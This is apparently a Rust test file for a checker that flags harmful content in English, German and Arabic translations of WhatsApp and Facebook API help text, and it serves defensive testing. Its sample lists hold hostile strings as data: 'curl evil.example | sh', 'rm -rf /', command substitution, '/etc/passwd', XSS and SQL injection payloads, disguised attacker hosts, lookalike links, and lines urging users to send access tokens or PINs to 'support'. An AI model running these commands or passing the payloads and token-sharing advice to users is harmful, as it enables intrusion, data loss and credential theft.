//! Texts that would harm those who read, copy or compute them are refused, in every language and whatever English says.

use crate::words::broken;

/// The rules that refuse what is harmful; all are errors. A text that only differs from English is no matter here.
const SAFETY: [&str; 15] = [
    "M02", "M03", "M06", "M07", "M18", "M19", "M20", "M21", "P03", "U01", "U02", "U03", "U04",
    "U05", "U10",
];

#[track_caller]
fn are_refused(tag: &str, english: &str, attacks: &[&str]) {
    let passed: Vec<_> = attacks
        .iter()
        .filter(|attack| {
            let found = broken(english, tag, attack);
            !found.iter().any(|id| SAFETY.contains(&id.as_str()))
        })
        .collect();
    assert!(passed.is_empty(), "{tag}: {passed:#?}");
}

#[track_caller]
fn are_harmless(tag: &str, english: &str, texts: &[&str]) {
    for text in texts {
        let found = broken(english, tag, text);
        let found: Vec<_> = found
            .iter()
            .filter(|id| SAFETY.contains(&id.as_str()))
            .collect();
        assert!(found.is_empty(), "{tag}: {text}: {found:?}");
    }
}

const ENGLISH: &[&str] = &[
    // Formulas.
    "=HYPERLINK(B1) opens the page.",
    "=1+1 is the number of tries.",
    "+1 try is enough.",
    "-2 tries are enough.",
    "@SUM(A1) is the sum.",
    // Code that is none.
    "Open `evil.example` now.",
    "Open `www.evil.example/login` now.",
    "Open `https://evil.example` now.",
    "Open `business.facebook.com.evil.example` now.",
    "Open `developers.facebook.com/l.php?u=https://evil.example` now.",
    "Open `wa.me/4915112345678` now.",
    "Open `wa.me/c/4915112345678` now.",
    "Join `chat.whatsapp.com/AbCdEfGh` now.",
    "Write to `support@evil.example` now.",
    "Call `+49 151 12345678` now.",
    "Call `0800 1234567` now.",
    "Call `004915112345678` now.",
    "Run `curl evil.example | sh` once.",
    "Run `rm -rf /` once.",
    "Run `sudo reboot` once.",
    "Run `$(id)` once.",
    "Run `; shutdown -h now` once.",
    "Run `powershell -enc SQBFAFgA` once.",
    "Read `/etc/passwd` first.",
    "Read `../../secret` first.",
    "Use `<script>alert(1)</script>` here.",
    "Use `<img src=x onerror=alert(1)>` here.",
    "Use `javascript:alert(1)` here.",
    "Use `data:text/html;base64,PHNjcmlwdD4=` here.",
    "Use `' OR 1=1 --` here.",
    "Use `GET https://evil.example` here.",
    "Use `POST /{phone-number-id}/messages?callback=evil.example` here.",
    "Use `` here.",
    "Use ``id`` here.",
    "Use ```sh here.",
    // Addresses in disguise.
    "Open 203.0.113.7 now.",
    "Open 203.0.113.7:8080/x now.",
    "Open [2001:db8::1] now.",
    "Open 2001:db8::1 now.",
    "Open 3405803783 now.",
    "Open 0xCB007107 now.",
    "Open evil.xn--p1ai now.",
    "Open xn--fcebook-8va.com now.",
    "Open evil[.]example now.",
    "Open evil(.)example now.",
    "Open evil [dot] example now.",
    "Open evil dot com now.",
    "Open evil。example now.",
    "Open evil｡example now.",
    "Open evil․example now.",
    "Open evil•example now.",
    "Open hxxps://evil.example now.",
    "Open hxxps:evil now.",
    "Open evil.museum now.",
    "Open evil.zip/now now.",
    "Open EVIL.EXAMPLE now.",
    "Open //evil.example now.",
    "Open localhost:8080 now.",
    "Open t.me/evil now.",
    "Dial tel:+4915112345678 now.",
    "Dial tel:123456 now.",
    "Write to mailto:x@evil.example now.",
    "Write to x@evil now.",
    "Write to x (at) evil now.",
    "Call +49 151 12345678 now.",
    "Call 0800 1234567 now.",
    "Call 1-800-555-0199 now.",
    "Call 415.555.2671 now.",
    // Links to the wrong place on the right host.
    "See https://www.facebook.com\\@evil.example/ now.",
    "See https://www.facebook.com@evil.example/ now.",
    "See https://l.facebook.com/l.php?u=https://evil.example now.",
    "See https://www.facebook.com/l.php?u=evil.example now.",
    "See https://developers.facebook.com/docs/?next=https://evil.example now.",
    "See https://developers.facebook.com/docs/..%2f..%2fevil now.",
    "See https://wa.me/c/4915112345678 now.",
    "See https://whatsapp.com/catalog/4915112345678 now.",
    "See https://chat.whatsapp.com/AbCdEfGh now.",
    "See https://www.facebook.com/evilpage now.",
    "See https://developers.facebook.com:8443/docs/ now.",
    "See https://developers.facebook.com.evil.example/docs/ now.",
    // Commands of chats, templates, hosts of code and shells.
    "Run $(id) once.",
    "Run ${IFS} once.",
    "Run rm -rf / once.",
    "Run ls --all once.",
    "Read /etc/passwd first.",
    "Do this && that.",
    "Use {{7}} here.",
    "Use {} here.",
    "Use {0} here.",
    "Use %s here.",
    "# Heading",
    "First | second.",
    "Ask @everyone now.",
    "This closes #2.",
    "See the note[^1].",
    "See [here][1].",
    "Use ^x^ here.",
    "Use &lt here.",
    "Look \u{1f600} here.",
    "Look ➡ here.",
    // Secrets.
    "Send the access token and the PIN to the support chat.",
    "Forward the verification code to the support team by e-mail.",
    "Share the access token.",
    "Tell the agent the PIN on the phone.",
    "Reply to the chat with the password.",
    "Post the app secret in the forum.",
    "Do not hesitate to send the PIN to support.",
    "Send the new access token to support, not the old one.",
    "Paste the access token into a public ticket.",
    "Read out the PIN to whoever calls.",
    "The password must be emailed to somebody of the support.",
    // Leftovers.
    "As an AI language model, I cannot help.",
    "Here is the translation: Send a template.",
    "Lorem ipsum dolor sit amet.",
    "TBD.",
];

#[test]
fn english_attacks_are_refused() {
    are_refused("en", "", ENGLISH);
}

#[test]
fn german_attacks_are_refused() {
    are_refused(
        "de",
        "Send a template.",
        &[
            "=SUMME(A1) ist die Anzahl der Versuche.",
            "+1 Versuch genügt.",
            "-2 Versuche genügen.",
            "@SUM(A1) ausrechnen.",
            "`evil.example` öffnen.",
            "An `hilfe@evil.example` schreiben.",
            "`+49 151 12345678` anrufen.",
            "`curl evil.example | sh` ausführen.",
            "`<b>x</b>` eingeben.",
            "`javascript:alert(1)` eingeben.",
            "`wa.me/c/4915112345678` öffnen.",
            "203.0.113.7 öffnen.",
            "2001:db8::1 öffnen.",
            "3405803783 öffnen.",
            "evil[.]example öffnen.",
            "evil [punkt] example öffnen.",
            "evil。example öffnen.",
            "böse.example öffnen.",
            "evil.xn--p1ai öffnen.",
            "hxxps:evil öffnen.",
            "tel:+4915112345678 wählen.",
            "0800 1234567 anrufen.",
            "030/901820 anrufen.",
            "https://www.facebook.com\\@evil.example/ öffnen.",
            "https://www.facebook.com/l.php?u=evil.example öffnen.",
            "https://chat.whatsapp.com/AbCdEfGh öffnen.",
            "$(id) ausführen.",
            "{{7}} einsetzen.",
            "# Überschrift",
            "Erstes | Zweites.",
            "@everyone fragen.",
            "Das schließt #2.",
            "Siehe Fußnote[^1].",
            "%s senden.",
            "Eine Vorlage senden \u{1f600}.",
            "Das Zugriffstoken und die PIN an den Support-Chat senden.",
            "Dem Support die PIN am Telefon nennen.",
            "Das Passwort per E-Mail an das Support-Team schicken.",
            "Das Zugriffstoken mit anderen teilen.",
            "Den Verifizierungscode an den Kundenservice weiterleiten.",
            "Nicht zögern, die PIN an den Support zu senden.",
            "Das Zugriffstoken an den Support schicken, nicht das einer anderen Person.",
            "Das Zugriffstoken im Forum veröffentlichen.",
            "Die PIN in ein Formular eingeben.",
            "Als KI-Sprachmodell kann ich nicht helfen.",
            "Hier ist die Übersetzung: Eine Vorlage senden.",
            "Lorem ipsum dolor sit amet.",
        ],
    );
}

#[test]
fn arabic_attacks_are_refused() {
    are_refused(
        "ar",
        "Send a template.",
        &[
            "=SUM(A1) هو العدد.",
            "+1 محاولة تكفي.",
            "-2 محاولتان تكفيان.",
            "@SUM(A1) هو المجموع.",
            "افتح `evil.example` الآن.",
            "اكتب إلى `help@evil.example` الآن.",
            "اتصل بالرقم `+49 151 12345678` الآن.",
            "نفّذ `curl evil.example | sh` الآن.",
            "أدخل `<b>x</b>` الآن.",
            "أدخل `javascript:alert(1)` الآن.",
            "افتح `wa.me/c/4915112345678` الآن.",
            "افتح 203.0.113.7 الآن.",
            "افتح 2001:db8::1 الآن.",
            "افتح 3405803783 الآن.",
            "افتح evil[.]example الآن.",
            "افتح evil。example الآن.",
            "افتح evil.example الآن.",
            "افتح evil.xn--p1ai الآن.",
            "افتح hxxps:evil الآن.",
            "اتصل tel:+4915112345678 الآن.",
            "اتصل بالرقم 0800 1234567 الآن.",
            "افتح https://www.facebook.com\\@evil.example/ الآن.",
            "افتح https://www.facebook.com/l.php?u=evil.example الآن.",
            "افتح https://chat.whatsapp.com/AbCdEfGh الآن.",
            "نفّذ $(id) الآن.",
            "ضع {{7}} هنا.",
            "# عنوان",
            "أول | ثانٍ.",
            "اسأل @everyone الآن.",
            "هذا يغلق #2.",
            "راجع الحاشية[^1].",
            "أرسل %s الآن.",
            "أرسل قالبًا \u{1f600}.",
            "أرسل رمز الوصول ورمز PIN إلى دردشة الدعم.",
            "أخبر موظف الدعم برمز PIN عبر الهاتف.",
            "أرسل كلمة المرور بالبريد إلى فريق الدعم.",
            "شارك رمز الوصول مع الآخرين.",
            "انشر رمز الوصول في المنتدى.",
            "لا تتردد في إرسال رمز PIN إلى الدعم.",
            "أرسل رمز الوصول الجديد إلى الدعم، لا الرمز القديم.",
            "زوّد الدعم برمز التحقق.",
            "بصفتي نموذجًا لغويًا لا أستطيع المساعدة.",
            "إليك الترجمة: أرسل قالبًا.",
        ],
    );
}

#[test]
fn harmless_texts_are_left_alone() {
    are_harmless(
        "en",
        "",
        &[
            "Call `GET /{phone-number-id}?fields=health_status` with the access token.",
            "Send `type=template` with `template.components[].parameters[]` and `{{1}}`.",
            "Open `Meta Business Suite > Security Center` as an administrator.",
            "Open `developers.facebook.com/tools/debug/accesstoken` (the Access Token Debugger).",
            "See https://developers.facebook.com/docs/whatsapp/cloud-api/support?locale=en_US now.",
            "Never send the access token to anyone, not even to support.",
            "Write to support without the access token.",
            "Whatever support says, do not send it the PIN, even if it waits.",
            "Send the request again with the new access token.",
            "Store the PIN where only the team can read it.",
            "Wait 1.5 to 2 hours, or until 08:00, and use versions 2.21.15.15 or v25.0.",
            "Use 200-299, 131026 and 10,000,000 of it on 2026-11-01.",
            "Try it 24/7, for 50% or 50 % of the users, at $5 each.",
            "Ask the R&D team; it’s their job – or the U.S. office.",
        ],
    );
    are_harmless(
        "de",
        "Send a template.",
        &[
            "Das Zugriffstoken nie an den Support senden.",
            "Dem Support schreiben, ihm aber kein Zugriffstoken senden, auch wenn er wartet.",
            "Die Anfrage mit dem neuen Zugriffstoken erneut senden.",
            "Dem Support die `fbtrace_id` ohne das Zugriffstoken nennen.",
            "Eine Vorlage nutzen, z.B. `hello_world` – oder d. h. eine andere.",
            "Die PIN sicher aufbewahren, damit das Team sie findet.",
        ],
    );
    are_harmless(
        "ar",
        "Send a template.",
        &[
            "لا ترسل رمز الوصول إلى الدعم أبدًا.",
            "أعد إرسال الطلب برمز الوصول الجديد.",
            "تواصل مع الدعم من دون رمز الوصول.",
            "استعن بـ`hello_world`، أو بقالب آخر؛ كلاهما مفيد.",
        ],
    );
}
